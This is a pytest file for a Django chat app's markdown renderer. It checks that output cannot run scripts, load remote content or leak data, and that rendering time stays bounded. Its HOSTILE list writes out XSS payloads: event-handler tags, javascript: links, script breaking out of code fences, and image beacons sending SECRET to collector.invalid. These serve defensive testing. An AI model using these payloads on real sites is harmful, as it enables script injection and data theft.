"""Whatever is written, the HTML cannot run, load or hide anything, and comes fast."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString

from chatapp.web.markdown import MAX_TABLE_COLUMNS, render
from tests.support.work import assert_linear, steps

MAX_STEPS_A_CHARACTER = 550
"""460 at most were measured; brackets that nothing closes took 640 to 990 without our own rule."""

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "[click](javascript:alert(1))",
    "[click](JaVa&#115;cript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[d](data:text/html;base64,PHNjcmlwdD4=)",
    "[v](vbscript:x)",
    "[f](file:///etc/passwd)",
    "[r](/accounts/logout/)",
    "[p](//collector.invalid)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![p](https://collector.invalid/?q=SECRET)",
    "![p][r]\n\n[r]: https://collector.invalid/?q=SECRET",
    '<a href="//collector.invalid">x</a>',
    "<style>body{display:none}</style>",
    "```html\n</code></pre><script>alert(1)</script>",
    "~~~<script>\nx\n~~~",
    '```"><script>alert(1)</script>\nx\n```',
    "`</code><script>alert(1)</script>`",
    r"$\href{javascript:alert(1)}{x}$",
    '[x](https://a.b "\\" onmouseover=alert(1)")',
    "https://a.b/<script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "# <svg onload=alert(1)>",
    "\0<scr\0ipt>alert(1)</script>",
]
TAG_NAMES = """a blockquote br button code div em h3 h4 h5 h6 hr li ol p pre s span strong table
    tbody td th thead tr ul"""
KNOWN_TAGS = set(TAG_NAMES.split())
KNOWN_ATTRIBUTES = {
    "dir",
    "class",
    "href",
    "target",
    "rel",
    "start",
    "tabindex",
    "title",
    "type",
    "data-copy",
}


class Elements(HTMLParser):
    """Collects the tags and attributes that a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.tags = set()
        self.attributes = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.extend(attrs)

    def all_of(self, name):
        return [value for key, value in self.attributes if key == name]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_writes_no_tag_attribute_or_address_that_can_act(text):
    elements = Elements(render(text))

    assert elements.tags <= KNOWN_TAGS
    assert {name for name, _ in elements.attributes} <= KNOWN_ATTRIBUTES
    assert all(re.match(r"https?://|mailto:", href) for href in elements.all_of("href"))


@pytest.mark.parametrize("text", HOSTILE[:2] + HOSTILE[16:17])
def test_html_stays_readable_as_text(text):
    assert text in unescape(render(text))


def test_an_image_becomes_a_link_that_waits_for_a_click():
    html = render("![a cat](https://collector.invalid/c.png)")

    assert "<img" not in html
    assert '<a href="https://collector.invalid/c.png"' in html
    assert ">a cat</a>" in html


def test_an_image_inside_a_link_leaves_its_words():
    assert render("[![logo](https://a.b/c.png)](https://d.e)").count("<a ") == 1


def test_links_tell_nothing_and_open_elsewhere():
    html = render("[x](https://a.b)")

    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://a.b/c.", "https://a.b/c"),
        ("(https://a.b/c)", "https://a.b/c"),
        ("https://a.b/c_(d)", "https://a.b/c_(d)"),
        ("смотри https://a.b/c, потом", "https://a.b/c"),
        ("请看 https://a.b/c。谢谢", "https://a.b/c"),
        ("<https://a.b/c>", "https://a.b/c"),
        ("mail <mailto:a@b.c>", "mailto:a@b.c"),
    ],
)
def test_it_finds_where_a_bare_address_ends(text, address):
    assert Elements(render(text)).all_of("href") == [address]


def test_code_says_its_language_and_can_be_copied():
    html = render("```python\nx = 1 < 2\n```")

    assert '<span class="code-language">python</span>' in html
    assert "data-copy" in html
    assert "&lt;" in html


def test_an_address_in_code_is_no_link():
    assert "<a " not in render("`https://a.b`\n\n    https://a.b\n")


def test_headings_stand_below_those_of_the_page():
    assert Elements(render("# a\n\n###### b")).tags == {"h3", "h6"}


def test_alignment_needs_no_style_attribute():
    html = render("|a|\n|-:|\n|1|")

    assert "style=" not in html
    assert 'class="align-right"' in html


def test_blocks_find_their_own_direction():
    assert '<p dir="auto">' in render("שלום")


def test_a_new_line_of_the_model_is_a_new_line():
    assert "<br>" in render("one\ntwo")


def test_a_table_wider_than_the_limit_stays_text():
    header = "|a" * (MAX_TABLE_COLUMNS + 1) + "|\n" + "|-" * (MAX_TABLE_COLUMNS + 1) + "|\n"

    assert "<table" not in render(header)


def test_it_returns_html_that_templates_take_as_it_is():
    assert isinstance(render("x"), SafeString)


@pytest.mark.parametrize(
    ("begin", "unit"),
    [
        ("", "["),
        ("", "!["),
        ("", "[a]("),
        ("", "*a **b "),
        ("", "`"),
        ("", "<"),
        ("", ">"),
        ("", "- "),
        ("", "~~a"),
        ("|a" * 32 + "|\n" + "|-" * 32 + "|\n", "|a\n"),
        ("", "https://a.b "),
        ("```c\n", "/*"),
        ("```python\n", "'''"),
    ],
)
def test_work_on_hostile_text_grows_with_its_length_and_is_bounded(begin, unit):
    text = begin + unit * (4_000 // len(unit))

    assert_linear(lambda text: render(begin + text), unit, length=1_500)
    assert steps(lambda: render(text)) < MAX_STEPS_A_CHARACTER * len(text)


def test_work_on_brackets_in_brackets_grows_with_their_number_and_is_bounded():
    text = "[" * 2_000 + "]" * 2_000

    assert_linear(lambda text: render(text + "]" * len(text)), "[", length=1_500)
    assert steps(lambda: render(text)) < MAX_STEPS_A_CHARACTER * len(text)
